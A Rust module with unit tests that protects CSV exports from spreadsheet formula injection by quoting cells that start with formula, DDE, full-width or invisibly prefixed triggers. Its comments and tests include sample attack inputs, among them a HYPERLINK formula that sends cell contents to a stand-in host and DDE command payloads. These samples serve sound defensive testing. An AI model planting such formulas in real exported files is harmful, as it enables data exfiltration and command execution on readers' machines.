//! Keeping spreadsheet programs from running text as a formula (CSV injection, OWASP).
//!
//! A CSV cell has no type: Excel and LibreOffice treat text that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return as a formula, and `|` starts a DDE call in older Excel, so a note such
//! as `=HYPERLINK("http://evil.example/?"&A1)` would run on the reader's machine. Excel also turns
//! the full-width `＝` `＋` `－` `＠` (typed with a Japanese IME) into their ASCII forms, and a
//! program may drop invisible characters (zero-width space, BOM, other Unicode format characters,
//! category Cf) or leading spaces before it looks: so a trigger after any of those counts too. Such
//! text is written with a leading `'`, which the programs show as text. Numbers are left alone (`-3`
//! stays a number), and the import removes exactly the quote the export added, so a file read back
//! gives the text that was written.

use std::borrow::Cow;

/// The characters that make a spreadsheet program read a cell as a formula: the ASCII ones, `|`
/// (DDE), and the full-width forms of each (U+FF01–FF5E mirror ASCII).
const FORMULA_TRIGGERS: [char; 10] = ['=', '+', '-', '@', '|', '＝', '＋', '－', '＠', '｜'];

/// Tab and carriage return start a formula only as a cell's very first character.
const LEADING_TRIGGERS: [char; 2] = ['\t', '\r'];

/// Unicode format characters (general category Cf, Unicode 15.1): invisible, and dropped or
/// ignored by programs that then see what follows as the cell's start.
const FORMAT_CHARACTERS: [(char, char); 21] = [
    ('\u{00AD}', '\u{00AD}'),
    ('\u{0600}', '\u{0605}'),
    ('\u{061C}', '\u{061C}'),
    ('\u{06DD}', '\u{06DD}'),
    ('\u{070F}', '\u{070F}'),
    ('\u{0890}', '\u{0891}'),
    ('\u{08E2}', '\u{08E2}'),
    ('\u{180E}', '\u{180E}'),
    ('\u{200B}', '\u{200F}'),
    ('\u{202A}', '\u{202E}'),
    ('\u{2060}', '\u{2064}'),
    ('\u{2066}', '\u{206F}'),
    ('\u{FEFF}', '\u{FEFF}'),
    ('\u{FFF9}', '\u{FFFB}'),
    ('\u{110BD}', '\u{110BD}'),
    ('\u{110CD}', '\u{110CD}'),
    ('\u{13430}', '\u{1343F}'),
    ('\u{1BCA0}', '\u{1BCA3}'),
    ('\u{1D173}', '\u{1D17A}'),
    ('\u{E0001}', '\u{E0001}'),
    ('\u{E0020}', '\u{E007F}'),
];

fn is_format_character(c: char) -> bool {
    FORMAT_CHARACTERS.iter().any(|&(first, last)| (first..=last).contains(&c))
}

/// The quote that marks a cell as text.
const GUARD: char = '\'';

/// A number as the exports write one: an optional minus, digits, an optional fraction.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// Whether a program could read the text as a formula: a trigger first, or after leading
/// whitespace and invisible format characters.
fn starts_with_trigger(text: &str) -> bool {
    text.starts_with(LEADING_TRIGGERS)
        || text.trim_start_matches(|c: char| c.is_whitespace() || is_format_character(c)).starts_with(FORMULA_TRIGGERS)
}

/// Text as it is written to a CSV cell. Text that already starts with quotes before a trigger
/// gets one more, so that [`unguard`] restores it exactly.
pub fn guard(text: &str) -> Cow<'_, str> {
    let risky = starts_with_trigger(text) && !is_plain_number(text);
    let already_quoted = text.starts_with(GUARD) && starts_with_trigger(text.trim_start_matches(GUARD));
    if risky || already_quoted { Cow::Owned(format!("{GUARD}{text}")) } else { Cow::Borrowed(text) }
}

/// A CSV cell as the text it stands for: drops the one quote [`guard`] added.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if starts_with_trigger(rest.trim_start_matches(GUARD)) => rest,
        _ => cell,
    }
}

/// Whether text is a number that an xlsx export may write as a number cell.
pub fn is_number_text(text: &str) -> bool {
    is_plain_number(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_text_is_quoted() {
        for text in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-1+2"] {
            assert_eq!(guard(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn full_width_prefixes_and_dde_are_quoted() {
        for text in ["＝1+1", "＋1", "－1", "＠SUM(A1)", "｜calc", "|calc", "cmd|' /C calc'!A0", "＝ＳＵＭ（Ａ１）"]
        {
            let expected = if text.starts_with("cmd") { text.to_owned() } else { format!("'{text}") };
            assert_eq!(guard(text), expected, "{text:?}");
        }
    }

    #[test]
    fn a_trigger_after_invisible_characters_or_spaces_is_quoted() {
        for text in [
            "\u{200B}=1+1",
            "\u{200C}+1",
            "\u{200D}-x",
            "\u{FEFF}@x",
            "\u{2060}|calc",
            "\u{00AD}=x",
            "\u{202E}=x",
            "\u{E0041}=x",
            " =1+1",
            "\u{3000}＝1+1",
            "\u{00A0}\u{200B} -1",
            "\n=x",
        ] {
            assert_eq!(guard(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        for text in [
            "-3",
            "-3.5",
            "170",
            "30.0",
            "",
            "オープンデータ追加",
            "a=b",
            "'quoted",
            "a|b",
            "\u{200B}",
            " ",
            "\u{200B}plain",
            " 1",
            "全角＝は途中なら可",
            "−3",
        ] {
            assert_eq!(guard(text), text, "{text:?}");
        }
    }

    #[test]
    fn unguard_restores_what_guard_wrote() {
        for text in [
            "=1+1",
            "+1",
            "-x",
            "@x",
            "\tx",
            "\rx",
            "-3",
            "'=x",
            "''-x",
            "'plain",
            "plain",
            "'",
            "",
            "＝1+1",
            "|calc",
            "\u{200B}=x",
            "'\u{200B}=x",
            "'\u{FEFF}＠x",
            " =x",
            "\u{200B}plain",
            "'\u{200B}plain",
        ] {
            assert_eq!(unguard(&guard(text)), text, "{text:?}");
        }
    }

    #[test]
    fn unguard_keeps_a_quote_the_export_did_not_add() {
        assert_eq!(unguard("'hello"), "'hello");
        assert_eq!(unguard("'=x"), "=x");
        assert_eq!(unguard("'＝x"), "＝x");
        assert_eq!(unguard("'\u{200B}=x"), "\u{200B}=x");
        assert_eq!(unguard("'\u{200B}x"), "'\u{200B}x");
    }
}
